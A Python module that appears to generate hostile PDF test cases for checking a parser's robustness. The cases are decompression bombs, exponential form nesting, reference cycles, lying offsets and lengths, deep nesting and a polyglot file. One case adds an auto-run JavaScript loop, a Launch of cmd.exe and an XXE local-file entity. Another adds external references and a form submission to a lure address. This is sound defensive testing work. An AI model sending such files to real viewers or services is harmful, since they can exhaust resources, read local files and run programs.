"""PDF."""

from __future__ import annotations

import zlib

from hostile.kit.words import GOOD, LURE, deflate_block, many, write_sentence

SUFFIX = "pdf"
_SHOWN = b"BT /F 10 Tf 72 %d Td (%s) Tj ET\n"
_GOOD = _SHOWN % (700, GOOD.encode())
_HEAD = b"\x78\xda"  # of a stream packed by zlib
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >>"


def _build(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A file of objects with a right table of their places."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), len(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def _page(content: bytes, *more: bytes, entries: bytes = b"", catalog: bytes = b"", xobjects: bytes = b"") -> bytes:
    """One page; further objects begin at number 6."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 "
        b"0 R /Resources << /Font << /F 5 0 R >> /XObject << %s >> >> %s >>"
    )
    root = b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog
    return _build(
        [root, b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", page % (xobjects, entries), content, _FONT, *more]
    )


def decompression_ratio() -> bytes:
    """A page whose stream is two hundred megabytes of drawing in two hundred kilobytes."""
    drawing = deflate_block(b"0 0 m 9 9 l S\n" * 75_000, 200)
    return _page(_stream(_HEAD + drawing, b"/Filter /FlateDecode"))


def filter_chain() -> bytes:
    """A stream packed four times over, of gigabytes when it is unpacked, in a few hundred bytes."""
    data = _HEAD + deflate_block(bytes(2**20), 1_500)
    for _ in range(2):
        data = zlib.compress(data, 9)
    return _page(_stream(data, b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"))


def repeated_part() -> bytes:
    """Forms that each draw the next ten times, ten deep: ten thousand million sentences."""
    form = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources "
        b"<< /Font << /F 5 0 R >> /XObject << /X %d 0 R >> >>"
    )
    forms = [_stream(b"/X Do " * 10 if n < 9 else _GOOD, form % (7 + n)) for n in range(10)]
    return _page(_stream(_GOOD + b"/X Do"), *forms, xobjects=b"/X 6 0 R")


def reference_cycle() -> bytes:
    """Pages that are their own parents and children, bookmarks and a length that are themselves."""
    outline = (
        b"<< /First 6 0 R /Next 6 0 R /Prev 6 0 R /Last 6 0 R /Parent 6 0 R /Title (Ice) /Dest [3 0 R /Fit] /Count 9 >>"
    )
    content = b"<< /Length 4 0 R >>\nstream\n" + _GOOD + b"endstream"
    return _page(
        content,
        outline,
        entries=b"/Parent 3 0 R /Kids [3 0 R 2 0 R] /Annots 3 0 R",
        catalog=b"/Outlines 6 0 R /Names 1 0 R",
    )


def huge_number() -> bytes:
    """Pages of 10**30 points, fonts of 10**9, a count of 2**31 pages, objects numbered 10**18."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [-1e30 -1e30 1e30 1e30] /UserUnit 1e30 /Rotate "
        b"99999999999 /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
    )
    content = _stream(b"BT /F 1e9 Tf 1e30 0 0 1e30 0 0 Tm (Ice) Tj ET " + _GOOD)
    pages = b"<< /Type /Pages /Count 2147483647 /Kids [3 0 R 999999999999999999 0 R] >>"
    return _build(
        [b"<< /Type /Catalog /Pages 2 0 R >>", pages, page, content, _FONT], b"/Size 2147483647 /Prev 999999999999"
    )


def lying_offset() -> bytes:
    """A table of places in which every object lies elsewhere, the start of the table beyond the file."""
    data = _page(_stream(_GOOD))
    head, _, tail = data.rpartition(b"xref\n0")
    shifted = b"".join(
        line[:4] + b"999999" + line[10:] if line.endswith(b" n ") else line + b"" for line in tail.split(b"\n")
    )
    return head + b"xref\n0" + shifted + b"\nstartxref\n99999999999\n%%EOF\n"


def lying_length() -> bytes:
    """Streams that state two gigabytes, none at all, and lengths below zero."""
    streams = [b"<< /Length %d >>\nstream\n%s\nendstream" % (n, _GOOD) for n in (2**31 - 1, 0, -5)]
    return _page(streams[0], *streams[1:], entries=b"/Contents [4 0 R 6 0 R 7 0 R]")


def deep_nesting() -> bytes:
    """Arrays and dictionaries of a hundred thousand levels in the catalog, the page and its drawing."""
    deep = b"[" * 100_000 + b"]" * 100_000
    return _page(
        _stream(_GOOD + b"/P << /X " + deep + b" >> BDC EMC " + b"q " * 100_000),
        entries=b"/X " + deep,
        catalog=b"/X " + b"<< /X " * 50_000 + b">>" * 50_000,
    )


def active_content() -> bytes:
    """JavaScript when it is opened, launched programs, forms that are sent, files inside, XFA with an entity."""
    xfa = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{LURE.file}">]><xdp>&e;</xdp>'.encode()
    script = b"<< /S /JavaScript /JS (while(1){app.alert(1)}) /Next << /S /Launch /F (cmd.exe) >> >>"
    return _page(
        _stream(_GOOD),
        script,
        _stream(xfa),
        entries=b"/AA << /O 6 0 R >>",
        catalog=b"/OpenAction 6 0 R /AcroForm << /XFA 7 0 R /Fields [] >>",
    )


def external_reference() -> bytes:
    """Contents and pictures that stand in files and on other servers, links that submit."""
    outside = (
        b"<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /F "
        b"<< /FS /URL /F (%s) >> /Length 0 >>\nstream\n\nendstream"
    ) % LURE.address.encode()
    form = (
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (%s) /Page 0 >> /Length 0 >>\nstream\n\nendstream"
        % LURE.file.encode()
    )
    link = b"/Annots [<< /Subtype /Link /Rect [0 0 600 700] /A << /S /SubmitForm /F (%s) >> >>]" % LURE.address.encode()
    return _page(_stream(_GOOD + b"/A Do /B Do"), outside, form, entries=link, xobjects=b"/A 6 0 R /B 7 0 R")


def many_links() -> bytes:
    """Twenty thousand links over one word, and as many bookmarks to one place."""
    link = b"<< /Subtype /Link /Rect [72 690 200 712] /A << /S /URI /URI (http://example.org/) >> >>"
    marks = [b"<< /Title (Ice) /Parent 6 0 R /Next %d 0 R /Dest [3 0 R /Fit] >>" % (8 + n) for n in range(20_000)]
    return _page(
        _stream(_GOOD),
        b"<< /First 7 0 R /Last 20006 0 R /Count 20000 >>",
        *marks,
        entries=b"/Annots [" + link * 20_000 + b"]",
        catalog=b"/Outlines 6 0 R",
    )


def font_maps() -> bytes:
    """A font whose map to Unicode makes a thousand characters of every letter, and ranges that overlap."""
    ranges = b"".join(b"<%04x> <ffff> <%s>\n" % (n, b"0069006300650020" * 60) for n in range(0, 2_000, 10))
    cmap = b"/CIDInit /ProcSet findresource begin begincmap\n100 beginbfrange\n" + ranges + b"endbfrange endcmap end"
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R "
        b"/DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X >>] >>"
    )
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
    )
    content = _stream(b"BT /F 10 Tf 72 700 Td <" + b"0041" * 50_000 + b"> Tj ET")
    return _build(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            page,
            content,
            font,
            _stream(cmap),
        ]
    )


def giant_picture() -> bytes:
    """A picture of a hundred thousand by a hundred thousand points, in JBIG2, JPEG 2000 and plain bytes that lie."""
    entries = (
        b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 "
        b"/BitsPerComponent 16 /ColorSpace /DeviceCMYK /Filter /%s"
    )
    pictures = [
        _stream(zlib.compress(bytes(9_999)), entries % kind)
        for kind in (b"FlateDecode", b"JBIG2Decode", b"JPXDecode", b"DCTDecode")
    ]
    return _page(
        _stream(_GOOD + b"/A Do /B Do /C Do /D Do"), *pictures, xobjects=b"/A 6 0 R /B 7 0 R /C 8 0 R /D 9 0 R"
    )


def many_sections() -> bytes:
    """Twenty thousand pages that share one content."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R /Resources << /Font << /F 4 0 R >> >> >>"
    )
    kids = b" ".join(b"%d 0 R" % n for n in range(5, 5 + many(20_000)))
    return _build(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count %d /Kids [%s] >>" % (many(20_000), kids),
            _stream(_GOOD),
            _FONT,
            *[page] * many(20_000),
        ]
    )


def truncation() -> bytes:
    """Ends in the middle of a packed stream, without a table."""
    shown = b"".join(_SHOWN % (700 - n, write_sentence(n).encode()) for n in range(600))
    data = _page(_stream(zlib.compress(shown), b"/Filter /FlateDecode"))
    return data[: data.index(b"endstream") - 2_000]


def polyglot() -> bytes:
    """A PDF that is a zip at its end, an HTML page in its head and a program at its first line."""
    return b"%PDF-1.7 <html><body><script>x</script>\n" + _page(_stream(_GOOD)) + b"PK\x05\x06" + bytes(18)
